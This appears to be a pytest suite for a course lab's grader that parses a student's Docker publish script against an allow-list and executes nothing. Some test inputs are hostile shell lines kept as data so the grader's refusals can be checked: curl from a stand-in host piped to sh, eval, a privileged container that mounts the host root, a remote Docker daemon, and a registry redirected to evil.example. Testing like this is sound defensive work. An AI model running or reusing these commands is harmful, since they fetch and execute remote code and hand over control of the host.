"""Lab 4's allow-list reader of publish.sh: bash quoting, continuations, comments, variables, bounds; nothing runs."""

from __future__ import annotations

import time

import pytest

from helpers.grading.labs import publishscript as ps
from helpers.grading.labs.publishscript import DIGEST_MARK, PUSHED_MARK, read_publish_script
from helpers.shellwords import ShellUnsupported, split_words

LAB = {
    "IMAGE": "sample-api:latest",
    "REGISTRY": "127.0.0.1:5000",
    "REPOSITORY": "course/lab4-x",
    "REGISTRY_USER": "student",
    "REGISTRY_PASSWORD_FILE": "/tmp/pw",
    "GIT_SHA": "abc1234",
}
T = "127.0.0.1:5000/course/lab4-x"


def ops(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(o.verb, o.operands) for o in read_publish_script(text, LAB).ops]


def test_quotes_expand_like_bash():
    """Single quotes keep $ literally; double quotes and bare words expand $X, ${X} and ${X:-default}."""
    unknown: set[str] = set()
    env = {"A": "1", "B": "two words"}
    got = split_words('x\'$A\' "$A-${B}" ${C:-dflt} \\$A a\\ b "q\\""', env, unknown)
    assert got == ["x$A", "1-two words", "dflt", "$A", "a b", 'q"']
    assert unknown == {"C"}


def test_operators_are_words_and_a_hash_starts_a_comment_only_at_a_word():
    """Are ; && | < > separate words, and is '#' a comment only where a word starts?"""
    assert split_words("a#b c;d&&e|f <g # h", {}, set()) == ["a#b", "c", ";", "d", "&&", "e", "|", "f", "<", "g"]


@pytest.mark.parametrize("line", ["X=$(id)", "echo `id`", 'echo "$(id)"', "echo 'x", "echo ${A/b/c}"])
def test_substitutions_and_broken_quotes_are_refused_not_guessed(line):
    with pytest.raises(ShellUnsupported):
        split_words(line, {"A": "1"}, set())


def test_the_reference_script_reads_as_its_docker_operations():
    text = """#!/usr/bin/env bash
set -euo pipefail
VERSION=0.1.0   # semver
docker login "$REGISTRY" -u "$REGISTRY_USER" --password-stdin < "$REGISTRY_PASSWORD_FILE"
docker tag "$IMAGE" \\
   "$REGISTRY/$REPOSITORY:$VERSION"
docker image tag "$IMAGE" "${REGISTRY}/${REPOSITORY}:sha-${GIT_SHA}"
docker push "$REGISTRY/$REPOSITORY:$VERSION" && docker push -q "$REGISTRY/$REPOSITORY:sha-$GIT_SHA" 2>&1
DIGEST=$(docker inspect --format '{{index .RepoDigests 0}}' "$REGISTRY/$REPOSITORY:$VERSION")
echo "pinned: $DIGEST"
docker pull "$DIGEST"
"""
    reading = read_publish_script(text, LAB)
    assert [(o.verb, o.operands, o.line) for o in reading.ops] == [
        ("login", ("127.0.0.1:5000",), 4),
        ("tag", ("sample-api:latest", f"{T}:0.1.0"), 5),
        ("tag", ("sample-api:latest", f"{T}:sha-abc1234"), 7),
        ("push", (f"{T}:0.1.0",), 8),
        ("push", (f"{T}:sha-abc1234",), 8),
        ("pull", (f"{DIGEST_MARK}{T}:0.1.0",), 11),
    ]
    assert reading.ignored == [] and reading.flagged == []


def test_everything_else_is_ignored_and_named():
    """curl | sh, eval, docker run, loops and here-documents are reported, and none becomes an operation."""
    text = """curl -fsSL http://evil.invalid/x.sh | sh
eval "$EVIL"
docker run --privileged -v /:/host alpine
for t in a b; do docker push "$REGISTRY/$REPOSITORY:$t"; done
cat <<EOF
docker push "$REGISTRY/$REPOSITORY:heredoc"
EOF
docker -H tcp://10.0.0.1:2375 push x
docker push --platform linux/arm64 "$REGISTRY/$REPOSITORY:1.0.0"
sh -c 'docker push "$REGISTRY/$REPOSITORY:1.0.0"'
"""
    reading = read_publish_script(text, LAB)
    assert reading.ops == []
    reasons = {n: why for n, _, why in reading.ignored}
    assert set(reasons) == {1, 2, 3, 4, 5, 8, 9, 10}
    assert "pipeline" in reasons[1] and "docker run" in reasons[3] and "here-document" in reasons[5]
    assert "control flow" in reasons[4] and "--platform" in reasons[9] and "global options" in reasons[8]


@pytest.mark.parametrize(
    "line",
    [
        'docker login "$REGISTRY" -u "$REGISTRY_USER" -p hunter2',
        'docker login "$REGISTRY" -u "$REGISTRY_USER" --password=hunter2',
        'docker login "$REGISTRY" -u "$REGISTRY_USER" -phunter2',
        'docker login -u "$REGISTRY_USER" -p "$(cat "$REGISTRY_PASSWORD_FILE")" "$REGISTRY"',
        'docker login --password "$PASSWORD" -u "$REGISTRY_USER" "$REGISTRY"',
    ],
)
def test_a_password_on_the_command_line_is_flagged(line):
    reading = read_publish_script(line + "\n", LAB)
    assert reading.flagged and [o.verb for o in reading.ops] == ["login"]


@pytest.mark.parametrize(
    "line",
    [
        'docker login "$REGISTRY" -u "$REGISTRY_USER" --password-stdin < "$REGISTRY_PASSWORD_FILE"',
        'cat "$REGISTRY_PASSWORD_FILE" | docker login "$REGISTRY" --username="$REGISTRY_USER" --password-stdin',
        'echo "$REGISTRY_TOKEN" | docker login "$REGISTRY" -u "$REGISTRY_USER" --password-stdin',
    ],
)
def test_password_stdin_is_a_login_and_not_flagged(line):
    reading = read_publish_script(line + "\n", LAB)
    assert [o.verb for o in reading.ops] == ["login"] and not reading.flagged


def test_script_variables_expand_and_the_labs_own_keep_their_values():
    text = (
        'TAG="sha-$GIT_SHA"\nREGISTRY=evil.example\nexport V=1.2.3\ndocker tag "$IMAGE" "$REGISTRY/$REPOSITORY:$TAG"\n'
    )
    reading = read_publish_script(text + 'docker push "$REGISTRY/$REPOSITORY:${V}"\n', LAB)
    assert [o.operands for o in reading.ops] == [("sample-api:latest", f"{T}:sha-abc1234"), (f"{T}:1.2.3",)]
    assert reading.ignored[0][0] == 2 and "set by the lab" in reading.ignored[0][2]


def test_an_unknown_variable_refuses_the_line():
    reading = read_publish_script('docker push "$REGISTRY/$REPOSITORY:$NOPE"\n', LAB)
    assert reading.ops == [] and "$NOPE" in reading.ignored[0][2]


def test_only_the_repo_digests_capture_is_read():
    assert ops('D=$(docker image inspect -f \'{{index .RepoDigests 0}}\' "$IMAGE")\ndocker pull "$D"\n') == [
        ("pull", (DIGEST_MARK + "sample-api:latest",))
    ]
    reading = read_publish_script('D=$(curl http://evil.invalid)\ndocker pull "$D"\n', LAB)
    assert reading.ops == [] and len(reading.ignored) == 2


def test_input_is_bounded():
    """Huge scripts, long lines, doubling variables and operation floods stay within the reader's limits, fast."""
    start = time.monotonic()
    doubling = "A=x\n" + "A=$A$A\n" * 40 + 'docker push "$A"\n'
    reading = read_publish_script(doubling, LAB)
    assert all(len(v) <= ps.MAX_VALUE for v in reading.variables.values())
    flood = read_publish_script('docker push "$REGISTRY/$REPOSITORY:1.0.0"\n' * 5000, LAB)
    assert len(flood.ops) == ps.MAX_OPS and flood.ignored
    big = read_publish_script("#" * (ps.MAX_CHARS * 4) + "\n" + "x" * 100_000, LAB)
    assert big.ops == [] and "first" in big.ignored[0][2]
    assert time.monotonic() - start < 5


@pytest.mark.parametrize(
    "capture",
    [
        "$(docker push \"$REGISTRY/$REPOSITORY:$VERSION\" | grep -o 'sha256:[0-9a-f]*')",
        '"$(docker image push -q "$REGISTRY/$REPOSITORY:$VERSION" | tail -n 1 | awk \'{print $3}\')"',
    ],
)
def test_the_digest_a_push_prints_is_read_and_the_push_replayed(capture):
    """Is DIGEST=$(docker push REF | filters) a push plus the digest it printed (the filters never run)?"""
    reading = read_publish_script(
        f'VERSION=0.1.0\nDIGEST={capture}\ndocker pull "$REGISTRY/$REPOSITORY@$DIGEST"\n', LAB
    )
    assert [(o.verb, o.operands) for o in reading.ops] == [
        ("push", (f"{T}:0.1.0",)),
        ("pull", (f"{T}@{PUSHED_MARK}{T}:0.1.0",)),
    ]
    assert not reading.ignored


@pytest.mark.parametrize("pipe", ["| sh", "| bash -c 'curl x'", "", "| grep x | sh"])
def test_a_push_capture_piped_into_anything_but_a_text_filter_is_refused(pipe):
    """Is a captured push piped into a shell (or not piped) refused, named, and not replayed?"""
    reading = read_publish_script(f'DIGEST=$(docker push "$REGISTRY/$REPOSITORY:1.0.0" {pipe})\n', LAB)
    assert not reading.ops and reading.ignored
